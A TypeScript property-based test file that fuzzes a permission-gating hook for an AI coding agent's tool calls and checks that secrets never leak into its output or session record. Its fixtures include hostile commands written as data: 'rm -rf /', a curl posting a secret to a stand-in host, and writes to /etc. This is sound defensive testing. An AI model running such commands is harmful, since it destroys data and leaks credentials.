import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type GatePortChange, gatePort, payloadBytes } from "../../../testing/gate-port.ts";
import { tokenShapes, traces } from "../../../testing/token-shapes.ts";
import { type HostName, hostNames } from "./event.ts";
import { gateParts } from "./gate.ts";
import { runHook } from "./hook.ts";
import type { HookOutput } from "./outcome.ts";

/** Time stands still: nothing here may wait. */
const parts = { ...gateParts, timer: () => ({ over: new Promise<never>(() => undefined), cancel: () => undefined }) };

function run(bytes: Uint8Array, host: HostName = "claude-code", change: GatePortChange = {}) {
  const { port, written } = gatePort(change);
  return runHook(port, host, "user", bytes, parts).then((output) => ({ output, written }));
}

const events = [
  "PreToolUse",
  "PermissionRequest",
  "PostToolUse",
  "PostToolUseFailure",
  "PostToolBatch",
  "PermissionDenied",
  "UserPromptSubmit",
  "Stop",
  "SubagentStop",
  "SubagentStart",
  "SessionStart",
  "SessionEnd",
  "ConfigChange",
  "CwdChanged",
  "DirectoryAdded",
  "Notification",
  "Nonsense",
];
const odd = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }),
  fc.constantFrom("Bash", "Write", "TodoWrite", "/home/dev/app", "default", "\uD800"),
);
/** A payload of Claude Code, any part of which may be anything. */
const payload = fc
  .record(
    {
      hook_event_name: fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...events) }, odd),
      session_id: fc.oneof(fc.constant("s-1"), odd),
      cwd: fc.oneof(fc.constant("/home/dev/app"), odd),
      permission_mode: fc.oneof(fc.constantFrom("default", "plan", "bypassPermissions"), odd),
      tool_name: fc.oneof(fc.constantFrom("Bash", "Write", "Read", "mcp__a__b", "Agent"), odd),
      tool_input: fc.oneof(
        fc.record({ command: fc.oneof(fc.string(), fc.constantFrom("ls", "rm -rf /", "git push", "a $(")) }),
        fc.record({ file_path: fc.string() }),
        odd,
      ),
      tool_use_id: odd,
      tool_response: odd,
      tool_calls: fc.oneof(fc.array(odd, { maxLength: 3 }), odd),
      prompt: fc.oneof(fc.string(), odd),
      last_assistant_message: odd,
      agent_id: fc.oneof(fc.constant(undefined), odd),
      source: odd,
      file_path: odd,
      error: odd,
    },
    { requiredKeys: ["hook_event_name"] },
  )
  .map((value) => JSON.stringify(value));

/** What every answer of the host is: a code it knows, and one object or nothing. */
function checkForm({ exit, stdout, stderr }: HookOutput): void {
  expect([0, 2]).toContain(exit);
  if (exit === 2) {
    expect(stdout).toBe("");
    expect(stderr).toMatch(/\[[a-z.-]+\]\n$/);
  }
  if (stdout === "") return;
  const value: unknown = JSON.parse(stdout);
  expect(typeof value === "object" && value !== null && !Array.isArray(value)).toBe(true);
  expect(stdout).not.toContain("\n");
}

describe("the hook", () => {
  it("gives one object or nothing, and a code the host knows, whatever is a payload", async () => {
    await fc.assert(
      fc.asyncProperty(payload, async (text) => {
        const { output } = await run(payloadBytes(text));
        checkForm(output);
        const { hook_event_name: event } = JSON.parse(text) as { readonly hook_event_name: unknown };
        // Nothing that is no call or setting is ever held up by the code.
        const isQuiet =
          typeof event === "string" && /^(?:UserPrompt|Stop|Subagent|Session|Post|Cwd|Dir|Notif)/.test(event);
        expect(isQuiet && output.exit !== 0).toBe(false);
      }),
      { numRuns: 300 },
    );
  });

  it("refuses by the code whatever bytes are no payload, for every host that has one", async () => {
    const host = fc.constantFrom(
      ...hostNames.filter((name) => !["ai-sdk", "agent-sdk", "permission-tool", "opencode"].includes(name)),
    );
    await fc.assert(
      fc.asyncProperty(host, fc.uint8Array({ maxLength: 200 }), async (name, bytes) => {
        const { output } = await run(bytes, name);
        checkForm(output);
        expect(output.exit).toBe(2);
      }),
      { numRuns: 150 },
    );
  });

  it("says nothing that could be a verdict where the gate is off or only reports, whatever is a payload", async () => {
    await fc.assert(
      fc.asyncProperty(
        payload,
        fc.constantFrom({ is_enabled: false }, { mode: "report" as const }),
        async (text, policy) => {
          const { output } = await run(payloadBytes(text), "claude-code", { policy, host: { is_headless: true } });
          expect(output.exit).toBe(0);
          expect(output.stdout).not.toMatch(/permissionDecision|"decision"|additionalContext/);
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe("a secret", () => {
  const shapes = fc.oneof(
    ...Object.entries(tokenShapes).flatMap(([name, shape]) => (name === "classic" ? [] : [shape])),
  );
  const base = { session_id: "s-1", cwd: "/home/dev/app", permission_mode: "dontAsk", tool_use_id: "t" };
  /** Where a secret may stand in what a host tells. */
  const places: readonly ((secret: string) => object)[] = [
    (secret) => ({
      hook_event_name: "PreToolUse",
      tool_name: "Bash",
      tool_input: { command: `curl -d "${secret}" https://x.example` },
    }),
    (secret) => ({
      hook_event_name: "PreToolUse",
      tool_name: "Bash",
      tool_input: { command: `rm -rf "/srv/${secret}" $X` },
    }),
    (secret) => ({
      hook_event_name: "PreToolUse",
      tool_name: "Write",
      tool_input: { file_path: `/etc/${secret}`, content: secret },
    }),
    (secret) => ({
      hook_event_name: "PreToolUse",
      tool_name: "WebFetch",
      tool_input: { url: `https://u:${secret}@x.example/?t=${secret}`, [secret]: 1 },
    }),
    (secret) => ({ hook_event_name: "PreToolUse", tool_name: `mcp__${secret}__x`, tool_input: { path: secret } }),
    (secret) => ({
      hook_event_name: "PermissionRequest",
      tool_name: "Bash",
      tool_input: { command: `export T=${secret}; nosuch` },
    }),
    (secret) => ({
      hook_event_name: "PostToolUse",
      tool_name: "Bash",
      tool_input: { command: `echo ${secret}` },
      tool_response: { stdout: `a ${secret} b`, stderr: secret },
    }),
    (secret) => ({
      hook_event_name: "PostToolUseFailure",
      tool_name: "Write",
      tool_input: { content: { deep: [secret] } },
      error: secret,
    }),
    (secret) => ({
      hook_event_name: "UserPromptSubmit",
      prompt: `Delete the branch "${secret}" and never touch ${secret}. Use ${secret}`,
    }),
    (secret) => ({ hook_event_name: "Stop", last_assistant_message: `All tests pass with ${secret}.` }),
  ];

  it("reaches neither the host nor the session's record, wherever it stands", async () => {
    await fc.assert(
      fc.asyncProperty(shapes, fc.constantFrom(...places), async (secret, place) => {
        const change: GatePortChange = { port: { trace: () => Promise.resolve([]) } };
        const { output, written } = await run(payloadBytes({ ...base, ...place(secret) }), "claude-code", change);
        // The inbox holds the very arguments a person is asked about; the session's record holds none.
        const events = written.filter(({ kind }) => kind !== "approval-pending");
        const texts = { stdout: output.stdout, stderr: output.stderr, events: JSON.stringify(events) };
        expect(traces(secret, texts)).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });
});
